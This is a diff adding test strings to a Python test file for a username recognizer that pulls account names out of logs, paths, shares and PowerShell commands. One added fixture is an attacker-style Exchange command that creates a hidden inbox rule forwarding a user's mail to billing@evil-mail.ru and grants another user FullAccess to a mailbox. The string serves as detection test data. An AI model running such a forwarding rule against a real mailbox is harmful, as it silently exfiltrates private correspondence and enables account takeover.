@@ -15,6 +15,9 @@ ACC = AccountRecognizer()
     ("/home/mwebb/.bash_history", {("USERNAME", "mwebb")}),
     ("---\ntitle: IR-2024-031\nreviewers: [jhansen, praman]\napprovers: [l.eriksen]\n---",
      {("USERNAME", "jhansen"), ("USERNAME", "praman"), ("USERNAME", "l.eriksen")}),
+    ('New-InboxRule -Mailbox maria.berg -Name "." -ForwardTo billing@evil-mail.ru\n'
+     "Add-MailboxPermission -Identity 'jhansen' -User mberg -AccessRights FullAccess",
+     {("USERNAME", "maria.berg"), ("USERNAME", "jhansen"), ("USERNAME", "mberg")}),
     # a home or profile share; an account beside its SID (wmic useraccount get name,sid)
     (r"H:\ mapped to \\hbfs01.hb.local\home$\mberg; \\fs01\Users\jhansen\Desktop, \\fs\profiles$\praman.V6\x",
      {("USERNAME", "mberg"), ("USERNAME", "jhansen"), ("USERNAME", "praman")}),
@@ -168,6 +171,8 @@ def test_account_hits(text, expected):
     r"C:\Windows\System32\cmd.exe", r"HKLM\Software\Microsoft", r"NT AUTHORITY\SYSTEM",
     "user=Administrator", "Account Name: -", r"BUILTIN\Administrators", "mkdir -p /tmp/x",
     "root@web01", r"a\nb escape", "sid=S-1-5-18",
+    'Set-Mailbox -Identity "Jonas Hansen" -ForwardingSmtpAddress smtp:x@y.com', "Get-Mailbox -Identity maria.berg@x.com",
+    "Get-Process -Name x -User mberg", "Add-MailboxPermission -Identity Administrator -User 'NT AUTHORITY\\SYSTEM'",
     "author: frack113", "reviewers: [Security Team]", "maintainers: [admin, root]", "reviewers: []",     r"\\fs01\home$", r"\\fs01\homes\Public\x", r"\\fs01\share\mberg", r"\\fs01\users\Administrator\x",
     "Domain Users   S-1-5-21-1004336348-1177238915-682003330-513", "krbtgt  S-1-5-21-1-2-3-502",
     "mberg S-1-5-21-1-2-3-1104 logged on",
